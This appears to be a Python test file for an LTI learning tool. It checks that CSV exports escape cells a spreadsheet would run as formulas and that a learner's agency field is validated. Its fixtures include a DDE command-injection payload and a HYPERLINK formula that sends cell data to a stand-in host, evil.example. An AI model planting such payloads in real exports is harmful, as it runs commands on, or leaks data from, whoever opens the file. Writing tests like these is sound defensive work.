"""Facilitator and admin CSV exports neutralise every cell a spreadsheet would run as a formula;
the learner's own agency is asked only when the LMS gives none, and validated."""
from __future__ import annotations

import csv
import io

import pytest
from flask import Flask
from sqlalchemy import select

from lti_helpers import FakePlatform
from lti_tool.courses.models import Completion, Enrolment, Participant
from lti_tool.exports import FORMULA_START, csv_text, safe_cell
from lti_tool.extensions import db
from lti_tool.platforms.models import Platform
from security_support import csrf, ADMIN, CUSTOM, launched, staff

NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
EMAIL = "-2+3@x.example"
AGENCY = '=HYPERLINK("https://evil.example/steal?d="&A2&B2,"Click for details")'


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("start", FORMULA_START)
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert rows(csv_text(["a"], [[start + "cmd"]]))[1] == ["'" + start + "cmd"]
    assert safe_cell("Ministry of Labour") == "Ministry of Labour" and safe_cell(-3) == -3


def test_facilitator_export_neutralises_lms_values(launcher) -> None:
    launched(launcher, sub="CSV-1", name=NAME, email=EMAIL, given_name=None, family_name=None)
    export = staff(launcher, sub="CSV-F").get("/facilitator/export.csv")
    assert export.status_code == 200
    (learner,) = [r for r in rows(export.text.lstrip("\ufeff"))[1:] if r[0].endswith(NAME)]
    assert learner[0] == "'" + NAME and learner[1] == "'" + EMAIL


def test_admin_report_neutralises_agencies(app: Flask, launcher, platform: FakePlatform) -> None:
    launched(launcher, sub="CSV-2")
    with app.app_context():  # a completion recorded with a hostile agency (as an LMS custom value could give)
        platform_id = db.session.scalar(select(Platform.id).where(Platform.issuer == platform.issuer))
        participant = db.session.scalar(select(Participant).where(Participant.platform_id == platform_id,
                                                                  Participant.sub == "CSV-2"))
        course_id = db.session.scalar(select(Enrolment.course_id).where(Enrolment.participant_id == participant.id))
        db.session.add(Completion(course_id=course_id, participant_id=participant.id, module_id="m01",
                                  country="GD", agency=AGENCY, passed=True))
        db.session.commit()
    report = staff(launcher, ADMIN, sub="CSV-A").get("/admin/report.csv?by=agency")
    assert report.status_code == 200
    header, *lines = rows(report.text.lstrip("\ufeff"))
    (line,) = [r for r in lines if "HYPERLINK" in r[header.index("agency")]]
    assert line[header.index("agency")] == "'" + AGENCY



def test_the_learners_agency_is_validated(launcher) -> None:
    learner = launched(launcher, sub="CSV-3", **{CUSTOM: {"module": "m01", "person_country": ""}})
    page = learner.get("/about-you?next=/")
    assert page.status_code == 200 and 'name="agency"' in page.text
    for bad in (AGENCY, "+44 Ministry", "@home", "Ministry\r\nof Labour", "x" * 121):
        refused = learner.post("/about-you", {"csrf_token": csrf(page.text), "country": "GD", "agency": bad})
        assert refused.status_code == 400, bad
    fine = learner.post("/about-you", {"csrf_token": csrf(page.text), "country": "GD",
                                       "agency": "Ministry of Labour, Immigration & Diaspora (MLID)"})
    assert fine.status_code == 303


def test_the_agency_is_not_asked_when_the_lms_gives_one(launcher) -> None:
    learner = launched(launcher, sub="CSV-4",
                       **{CUSTOM: {"module": "m01", "person_country": "", "agency": "Immigration Department"}})
    page = learner.get("/about-you")
    assert page.status_code == 200 and 'name="agency"' not in page.text


def test_the_question_cannot_be_posted_once_answered(app: Flask, launcher, platform: FakePlatform) -> None:
    learner = launched(launcher, sub="CSV-5", **{CUSTOM: {"module": "m01", "person_country": "GD"}})
    page = learner.get("/m/m01/")  # a country is known: nothing to ask
    answer = learner.post("/about-you", {"csrf_token": csrf(page.text), "country": "AG", "agency": "Other"})
    assert answer.status_code == 303
    with app.app_context():
        row = db.session.scalar(select(Participant).join(Platform).where(
            Platform.issuer == platform.issuer, Participant.sub == "CSV-5"))
        assert row.chosen_country is None and row.agency is None
